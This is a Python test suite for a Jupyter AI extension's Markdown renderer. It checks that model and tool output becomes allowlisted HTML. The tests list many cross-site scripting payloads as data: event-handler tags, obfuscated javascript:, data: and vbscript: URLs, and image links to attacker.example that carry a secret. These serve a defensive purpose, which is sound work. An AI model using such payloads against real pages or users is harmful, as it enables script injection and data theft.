"""render.py: outside text → allowlisted HTML, checked by an allowlist checker built on the
stdlib ``html.parser`` (a second parser that shares no code with markdown-it).

Property tests throw mixtures of the constructs that fooled the old regex escaper
(backslash-escaped backticks, ``~~~`` and ````` mid-line), raw HTML, entities, links,
images, autolinks, reference definitions, emphasis and math at the real markdown-it;
table-driven tests pin what each payload family becomes; benign Markdown must still
render as Markdown.
"""

from __future__ import annotations

import re
import time
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jupyter_azure_ai.jupyter import render
from jupyter_azure_ai.jupyter.render import (
    MAX_INLINE_IMAGE_CHARS,
    one_line,
    plain_text,
    render_markdown,
    text_html,
)
from tests.html_allowlist import check

EXTERNAL = 'target="_blank" rel="noopener noreferrer nofollow" referrerpolicy="no-referrer"'
IMAGE_LINK = f'title="remote image, not loaded: open it in a new tab" {EXTERNAL}'


def test_the_checker_can_fail() -> None:
    for bad in (
        '<img src=x onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        f'<a href="https://x" {EXTERNAL} style="color:red">x</a>',
        '<a href="https://x">no rel</a>',
        '<a href="https://x" target="_blank" rel="noopener noreferrer nofollow">no policy</a>',
        f'<a href="java\tscript:alert(1)" {EXTERNAL}>x</a>',
        f'<a href="&#106;avascript:alert(1)" {EXTERNAL}>x</a>',
        f'<a href="javascript:alert(1)" {EXTERNAL}>x</a>',
        '<img src="https://attacker.example/?d=secret" />',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=" />',
        "<style>@import url(https://attacker.example/x.css)</style>",
        '<div class="jp-Dialog">x</div>',
        '<code class="language-x onclick">x</code>',
        "<details ontoggle=alert(1) open>x</details>",
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
        "<p>unclosed",
        "<!-- comment -->",
    ):
        with pytest.raises(AssertionError):
            check(bad)


# --- properties -------------------------------------------------------------------------

URLS = [
    "https://example.com/a?b=c#d",
    "http://127.0.0.1:9/x.png",
    "HTTPS://EXAMPLE.COM",
    "mailto:someone@example.com",
    "#section",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&colon;alert(1)",
    "jav&NewLine;ascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:image/png;base64,iVBORw0KGgo=",
    "DATA:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
    "//attacker.example/x",
    "/api/kernels",
    "relative/path",
    "https://good.example@attacker.example/",
    'https://x.example/"onmouseover="alert(1)',
    "https://x.example/<script>",
    "<javascript:alert(1)>",
    "<https://x.example/a b>",
]
PIECES = [
    "`",
    "``",
    "```",
    "~~~",
    "\\`",
    "\\",
    "~",
    "~~",
    "*",
    "**",
    "_",
    "__",
    "$",
    "$$",
    "\\(",
    "\\)",
    "\\[",
    "\\]",
    "|",
    "|---|",
    "\n",
    "\n\n",
    "    ",
    "\t",
    "- ",
    "1. ",
    "> ",
    "# ",
    "[",
    "]",
    "(",
    ")",
    "![",
    "](",
    "]: ",
    "<",
    ">",
    '"',
    "'",
    "&",
    "&amp;",
    "&#60;",
    "&lt;",
    "&#x3C;",
    "&quot;",
    "&#0;",
    "&colon;",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<style>@import url(http://127.0.0.1:9/x.css)</style>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<!-- x -->",
    "<![CDATA[x]]>",
    "\x1b[31m",
    "\x00",
    "\\href{javascript:alert(1)}{x}",
    "\\style{color:red}{x}",
    "www.example.com",
    "https://example.com",
    "a@b.example",
    "x",
    "word ",
    "é",
    "🚀",
]


MATH = ["x^2", "a_1 * b_1 * c", "\\frac{1}{2}", "\\{x\\}", "<b>", "a \\\\ b", "$", "\\$"]
MATH += ["\\href{javascript:alert(1)}{x}", "\\style{background:url(http://x)}{y}", "x`y"]


@st.composite
def markdownish(draw: st.DrawFn) -> str:
    url = st.sampled_from(URLS)
    math = st.sampled_from(MATH)
    leaf = st.one_of(
        st.sampled_from(PIECES),
        st.text(max_size=4),
        url,
        math.map(lambda m: f"${m}$"),
        math.map(lambda m: f"\\({m}\\)"),
        math.map(lambda m: f"\n\n$$\n{m}\n$$\n\n"),
        url.map(lambda u: f"<{u}>"),
        st.sampled_from(["python", "py {.x}", 'x" onclick="y', "<b>", "&#x3C;"]).map(
            lambda info: f"\n```{info}\ncode <b>\n```\n"
        ),
    )
    # nested emphasis, strikethrough, links and images around any of the above
    inline = st.recursive(
        leaf,
        lambda inner: st.one_of(
            st.tuples(st.sampled_from(["*", "**", "_", "__", "~~", "***", "`"]), inner).map(
                lambda t: f"{t[0]}{t[1]}{t[0]}"
            ),
            st.tuples(inner, url).map(lambda t: f"[{t[0]}]({t[1]})"),
            st.tuples(inner, url).map(lambda t: f'[{t[0]}]({t[1]} "title")'),
            st.tuples(inner, url).map(lambda t: f"![{t[0]}]({t[1]})"),
            st.tuples(inner, url).map(lambda t: f"\n\n[ref]: {t[1]}\n\n[{t[0]}][ref] ![i][ref]"),
            st.lists(inner, min_size=1, max_size=3)
            .map(lambda cells: " | ".join(cells))
            .map(lambda row: f"\n\n| a | b |\n|:--|--:|\n| {row} |\n\n"),
            inner.map(lambda t: f"\n\n- {t}\n  1. {t}\n> {t}\n"),
        ),
        max_leaves=12,
    )
    return "".join(draw(st.lists(inline, max_size=25)))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(markdownish())
def test_any_mixture_renders_to_allowlisted_html(text: str) -> None:
    html = render_markdown(text)
    checker = check(html)
    assert all(src.startswith("data:image/") for src in checker.srcs)
    assert render_markdown(text) == html  # pure


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_any_text_renders_to_allowlisted_html(text: str) -> None:
    check(render_markdown(text))


@settings(max_examples=300, deadline=None)
@given(st.text(), st.text(max_size=200), st.text(), st.booleans())
def test_tool_entries_are_text_whatever_the_tool_says(
    name: str, arguments: str, result: str, is_error: bool
) -> None:
    html = render.tool_html(name, arguments, result, is_error)
    check(html)
    assert html.startswith('<details class="mathjax_ignore tex2jax_ignore"><summary>')


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""

    def handle_data(self, data: str) -> None:
        self.text += data


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_text_html_is_the_text_as_typed(text: str) -> None:
    html = text_html(text)
    check(f"<p>{html}</p>")
    parsed = _Text()
    parsed.feed(html)
    parsed.close()
    assert parsed.text == plain_text(text)


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_plain_text_has_no_control_characters_left(text: str) -> None:
    shown = plain_text(text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown)
    line = one_line(text)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", line) and line == line.strip()
    printable = re.sub(r"[\x00-\x1f\x7f-\x9f]", "", text)
    assert plain_text(printable) == printable  # printable text is left alone


MATH_TEXT = st.text(
    alphabet=st.characters(
        codec="utf-8", exclude_characters="$\n\r\x00", exclude_categories=["Cs"]
    ),
    min_size=1,
    max_size=40,
).filter(lambda t: t == t.strip() and not t.endswith("\\") and "\\" not in t[-2:])


@settings(max_examples=300, deadline=None)
@given(MATH_TEXT)
def test_math_reaches_mathjax_as_written(tex: str) -> None:
    """``$...$`` is not Markdown: emphasis, escapes and entities inside arrive untouched
    (NUL aside, which CommonMark replaces everywhere)."""
    html = render_markdown(f"see ${tex}$ here")
    check(html)
    source = escape(f"${tex}$", quote=True)
    if re.search(
        r"\\(href|url|require|style|class|cssId|data|bbox|unicode|mmlToken"
        r"|csname|setOptions|texttip|mathtip|toggle)(?![A-Za-z])",
        tex,
    ):
        assert f"<span>{source}</span>" in html  # shown, never typeset
    else:
        assert f'<span class="mathjax_process tex2jax_process">{source}</span>' in html


def test_tool_entries_show_name_arguments_and_result_as_text() -> None:
    args = ("get<b>", '{"q": "<script>"}', "$\\href{x}{y}$ \x1b[2J\nline 2", False)
    html = render.tool_html(*args)
    check(html)
    assert (
        "<summary>🔧 <code>get&lt;b&gt;({&quot;q&quot;: &quot;&lt;script&gt;&quot;})</code> → "
        in html
    )
    assert "<pre>$\\href{x}{y}$ ␛[2J\nline 2</pre>" in html  # no math class: never typeset
    assert (
        render.tool_plain(*args)
        == '\n[tool] get<b>({"q": "<script>"}) → $\\href{x}{y}$ ␛[2J line 2\n'
    )
    assert "✗" in render.tool_html("t", "{}", "boom", True)


# --- each payload family, explicitly ------------------------------------------------------


def body(text: str) -> str:
    """The rendered fragment without the wrapper div, checked."""
    html = render_markdown(text)
    check(html)
    prefix = '<div class="mathjax_ignore tex2jax_ignore">\n'
    assert html.startswith(prefix) and html.endswith("</div>\n")
    return html[len(prefix) : -len("</div>\n")].strip()


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        # raw HTML is text, in every position
        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
        ("a <b onmouseover=alert(1)>b</b>", "<p>a &lt;b onmouseover=alert(1)&gt;b&lt;/b&gt;</p>"),
        (
            "<details open ontoggle=alert(1)>\n\nx\n\n</details>",
            "<p>&lt;details open ontoggle=alert(1)&gt;</p>\n<p>x</p>\n<p>&lt;/details&gt;</p>",
        ),
        (
            "<iframe srcdoc='<script>parent.x=1</script>'></iframe>",
            "<p>&lt;iframe srcdoc='&lt;script&gt;parent.x=1&lt;/script&gt;'&gt;&lt;/iframe&gt;</p>",
        ),
        (
            "<style>@import url(https://attacker.example/x.css); body{display:none}</style>",
            f'<p>&lt;style&gt;@import url(<a href="https://attacker.example/x.css" {EXTERNAL}>'
            "https://attacker.example/x.css</a>); body{display:none}&lt;/style&gt;</p>",
        ),
        ("- <img src=x onerror=1>", "<ul>\n<li>&lt;img src=x onerror=1&gt;</li>\n</ul>"),
        (
            "> <img src=x onerror=1>",
            "<blockquote>\n<p>&lt;img src=x onerror=1&gt;</p>\n</blockquote>",
        ),
        ("# <img src=x onerror=1>", "<h1>&lt;img src=x onerror=1&gt;</h1>"),
        (
            "| <img src=x onerror=1> |\n|---|",
            "<table>\n<thead>\n<tr>\n<th>&lt;img src=x onerror=1&gt;</th>",
        ),
        ("**<img src=x onerror=1>**", "<p><strong>&lt;img src=x onerror=1&gt;</strong></p>"),
        ("[<img src=x onerror=1>](https://x.example)", '">&lt;img src=x onerror=1&gt;</a></p>'),
        # the constructs that fooled the regex escaper, then raw HTML
        ("\\` <img src=x onerror=alert(1)>", "<p>` &lt;img src=x onerror=alert(1)&gt;</p>"),
        (
            "a ~~~ b <img src=x onerror=alert(1)>",
            "<p>a ~~~ b &lt;img src=x onerror=alert(1)&gt;</p>",
        ),
        (
            "a ``` b <img src=x onerror=alert(1)>",
            "<p>a ``` b &lt;img src=x onerror=alert(1)&gt;</p>",
        ),
        (
            "`a` \\` b` <img src=x onerror=1>",
            "<p><code>a</code> ` b` &lt;img src=x onerror=1&gt;</p>",
        ),
        ("```\n<img src=x onerror=1>", "<pre><code>&lt;img src=x onerror=1&gt;</code></pre>"),
        (
            "~~~ <img src=x onerror=1>\nx\n~~~",
            "<pre><code>x\n</code></pre>",  # an info string with markup names no language
        ),
        # javascript:, vbscript:, data:, file: and obfuscated links stay text
        ("[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>"),
        ("[x](JaVaScRiPt:alert(1))", "<p>[x](JaVaScRiPt:alert(1))</p>"),
        ("[x](&#106;avascript:alert(1))", "<p>[x](javascript:alert(1))</p>"),
        ("[x](javascript&colon;alert(1))", "<p>[x](javascript:alert(1))</p>"),
        ("[x](<java\tscript:alert(1)>)", "<p>[x](&lt;java\tscript:alert(1)&gt;)</p>"),
        ("[x](java&#x09;script:alert(1))", "<p>[x](java\tscript:alert(1))</p>"),
        ("[x](vbscript:msgbox(1))", "<p>[x](vbscript:msgbox(1))</p>"),
        ("[x](data:text/html,hi)", "<p>[x](data:text/html,hi)</p>"),
        ("[x](file:///etc/passwd)", "<p>[x](file:///etc/passwd)</p>"),
        ("[x](//attacker.example)", "<p>[x](//attacker.example)</p>"),
        ("[x](/api/kernels)", "<p>[x](/api/kernels)</p>"),
        ("[x][r]\n\n[r]: javascript:alert(1)", "<p>[x][r]</p>\n<p>[r]: javascript:alert(1)</p>"),
        ("<javascript:alert(1)>", "<p>&lt;javascript:alert(1)&gt;</p>"),
        ("<vbscript:msgbox(1)>", "<p>&lt;vbscript:msgbox(1)&gt;</p>"),
        ("<data:text/html,hi>", "<p>&lt;data:text/html,hi&gt;</p>"),
        ("[x](data:image/png;base64,iVBORw0KGgo=)", "<p><a>x</a></p>"),  # an image URL as a link
        # allowed links
        (
            '[x](https://example.com/a?b=1 "t")',
            '<p><a href="https://example.com/a?b=1" title="t" target="_blank" '
            'rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">x</a></p>',
        ),
        (
            "[x][r]\n\n[r]: https://example.com",
            '<p><a href="https://example.com" target="_blank" '
            'rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">x</a></p>',
        ),
        (
            "<https://example.com>",
            '<p><a href="https://example.com" target="_blank" '
            'rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">https://example.com</a></p>',
        ),
        (
            "mail a@b.example",
            '<p>mail <a href="mailto:a@b.example" target="_blank" '
            'rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">a@b.example</a></p>',
        ),
        ("[top](#intro)", '<p><a href="#intro">top</a></p>'),
        (
            '[x](https://x.example/"onmouseover="alert(1))',
            '<p><a href="https://x.example/%22onmouseover=%22alert(1)" target="_blank" '
            'rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">x</a></p>',
        ),
        # images: remote ones become links naming the host; SVG never shows
        (
            "![chart](https://attacker.example/?d=SECRET)",
            f'<p><a href="https://attacker.example/?d=SECRET" {IMAGE_LINK}>'
            "[image: chart · attacker.example]</a></p>",
        ),
        (
            "![](http://127.0.0.1:9/p.png)",
            f'<p><a href="http://127.0.0.1:9/p.png" {IMAGE_LINK}>[image · 127.0.0.1]</a></p>',
        ),
        (
            "![x][r]\n\n[r]: https://attacker.example/r.png",
            f'<p><a href="https://attacker.example/r.png" {IMAGE_LINK}>'
            "[image: x · attacker.example]</a></p>",
        ),
        (
            "[![x](https://attacker.example/i.png)](https://example.com)",
            f'<p><a href="https://example.com" {EXTERNAL}>[image: x · attacker.example]</a></p>',
        ),
        ("![x](javascript:alert(1))", "<p>![x](javascript:alert(1))</p>"),
        (
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
            "<p>![x](data:image/svg+xml;base64,PHN2Zz4=)</p>",
        ),
        ("![x](#anchor)", "<p>[image: x]</p>"),
        (
            '![a "dot"](data:image/png;base64,iVBORw0KGgo=)',
            '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="a &quot;dot&quot;" /></p>',
        ),
        # no attributes from model text
        (
            "```python onclick=x\nprint(1)\n```",
            '<pre><code class="language-python">print(1)\n</code></pre>',
        ),
        ('```x"onclick="y\nz\n```', "<pre><code>z\n</code></pre>"),
        ("```&lt;b&gt;\nz\n```", "<pre><code>z\n</code></pre>"),
        ("    <img src=x onerror=1>", "<pre><code>&lt;img src=x onerror=1&gt;\n</code></pre>"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>'),
        # math: typeset only when safe; MathJax never sees the rest
        ("$x^2$", '<p><span class="mathjax_process tex2jax_process">$x^2$</span></p>'),
        (
            "$\\href{javascript:alert(1)}{x}$",
            "<p><span>$\\href{javascript:alert(1)}{x}$</span></p>",
        ),
        ("$\\style{color:red}{x}$", "<p><span>$\\style{color:red}{x}$</span></p>"),
        ("$$\\require{http://x}$$", "<div>$$\n\\require{http://x}\n$$</div>"),
        ("costs $5 and $6", "<p>costs $5 and $6</p>"),  # pandoc's rule: prose, not math
        (
            "\\begin{equation}\\href{http://x}{y}\\end{equation}",
            "<p>\\begin{equation}\\href{http://x}{y}\\end{equation}</p>",
        ),
        (
            '<span class="mathjax_process">$\\href{x}{y}$</span>',
            "<p>&lt;span class=&quot;mathjax_process&quot;&gt;<span>$\\href{x}{y}$</span>"
            "&lt;/span&gt;</p>",
        ),
    ],
)
def test_payload_family(markdown: str, expected: str) -> None:
    assert expected in body(markdown)


def test_benign_markdown_renders() -> None:
    html = body(
        "## Plan\n\n**bold**, *em*, ~~gone~~ and `code`.\n\n"
        "| name | n |\n|:-----|--:|\n| a | 1 |\n\n"
        "- one\n- two\n\n1. first\n2. second\n\n"
        '```python\nprint("café")\n```\n\n'
        "Energy $E = mc^2$, and\n\n$$\n\\int_0^1 x\\,dx = \\frac{1}{2}\n$$\n\n"
        "also \\(a_1 * b_1 * c_1\\) and \\[\\sum_i x_i\\]\n\n"
        "See [the docs](https://learn.microsoft.com/azure/) or https://example.com.\n\n"
        "> quoted\n\n---"
    )
    assert "<h2>Plan</h2>" in html
    assert "<strong>bold</strong>, <em>em</em>, <s>gone</s> and <code>code</code>" in html
    assert '<th align="left">name</th>\n<th align="right">n</th>' in html
    assert '<td align="left">a</td>\n<td align="right">1</td>' in html
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert "<ol>\n<li>first</li>" in html
    assert '<pre><code class="language-python">print(&quot;café&quot;)\n</code></pre>' in html
    math = '<span class="mathjax_process tex2jax_process">'
    assert f"{math}$E = mc^2$</span>" in html
    assert (
        '<div class="mathjax_process tex2jax_process">$$\n\\int_0^1 x\\,dx = \\frac{1}{2}\n$$</div>'
        in html
    )
    # math is not Markdown: the asterisks and backslashes arrive as written
    assert f"{math}\\(a_1 * b_1 * c_1\\)</span>" in html
    assert f"{math}\\[\\sum_i x_i\\]</span>" in html
    assert '<a href="https://learn.microsoft.com/azure/" target="_blank"' in html
    assert '<a href="https://example.com" target="_blank"' in html
    assert "<blockquote>\n<p>quoted</p>\n</blockquote>" in html and "<hr />" in html


def test_inline_images_have_a_size_cap() -> None:
    def image(chars: int) -> str:
        url = "data:image/png;base64," + "A" * (chars - len("data:image/png;base64,"))
        return body(f"![big]({url})")

    assert image(MAX_INLINE_IMAGE_CHARS).startswith('<p><img src="data:image/png;base64,AAA')
    assert "<img" not in image(MAX_INLINE_IMAGE_CHARS + 1)


def test_unclosed_constructs_while_streaming_stay_safe() -> None:
    answer = (
        "Here:\n\n```python\nx = '<img src=x onerror=1>'\n```\n\nand $x$ ![a](https://h.example/i)"
    )
    for end in range(len(answer) + 1):
        check(render_markdown(answer[:end]))


def test_plain_text_shows_control_characters() -> None:
    assert plain_text("a\x1b[31mred\x1b[0m\r\nb\rc\x08\x9b") == "a␛[31mred␛[0m\nb\nc␈\ufffd"
    assert one_line("model\x1b]8;;http://x\x07 said\n\nno") == "model␛]8;;http://x␇ said no"
    assert text_html("<b>&\x1b") == "&lt;b&gt;&amp;␛"


def test_footer_and_history_fragments() -> None:
    footer = render.footer_html("gpt-4o<img src=x onerror=1>\x1b[2J · 3 in / 4 out tokens")
    check(footer)
    assert "<sub>gpt-4o&lt;img src=x onerror=1&gt;␛[2J · 3 in / 4 out tokens</sub>" in footer
    history = render.history_html([("You", "**hi** <script>x</script>"), ("gpt<b>", "$x$")])
    check(history)
    assert "<strong>You:</strong>" in history and "<strong>hi</strong> &lt;script&gt;" in history
    assert "<strong>gpt&lt;b&gt;:</strong>" in history
    assert render.history_plain([("You", "a\x1bb")]) == "You: a␛b"
    check(render.history_html([]))


def test_render_cost_per_update_on_a_12_kb_answer() -> None:
    """The streamed display re-renders the whole answer at most every ``len / 20,000`` s
    (0.6 s at 12 KiB): rendering must stay a small part of that interval. A dense answer
    (a heading, table, list, code block, link and math every 200 bytes) is the worst
    case; the figure is reported in README."""
    block = (
        "## Section\n\nSome **bold** text with `code`, a [link](https://example.com) and "
        "$x^2$ math, then a list:\n\n- one item\n- two *items*\n\n| a | b |\n|---|--:|\n"
        "| 1 | 2 |\n\n```python\nprint('hello')\n```\n\n"
    )
    answer = (block * (12_288 // len(block) + 1))[:12_288]
    render_markdown(answer)  # the parser is built once
    best = min(_timed(answer) for _ in range(5))
    print(f"render_markdown, 12 KiB answer: {best * 1000:.1f} ms")
    assert best < 0.15, best  # a quarter of the 0.6 s interval, on a loaded CI machine


def _timed(text: str) -> float:
    started = time.perf_counter()
    render_markdown(text)
    return time.perf_counter() - started


def test_tables_show_outside_text_as_text() -> None:
    rows = [["1a2b", "<b>bold</b> & \x1b[2J\nnext line", "2"]]
    html = render.table_html(["id", "first prompt", "turns"], rows)
    assert "<b>" not in html and "&lt;b&gt;bold&lt;/b&gt; &amp; ␛[2J next line" in html
    plain = render.table_plain(["id", "first prompt", "turns"], rows)
    cell = "<b>bold</b> & ␛[2J next line"  # one line, the escape visible
    assert plain.splitlines() == [
        "id    " + "first prompt".ljust(len(cell)) + "  turns",
        f"1a2b  {cell}  2",
    ]
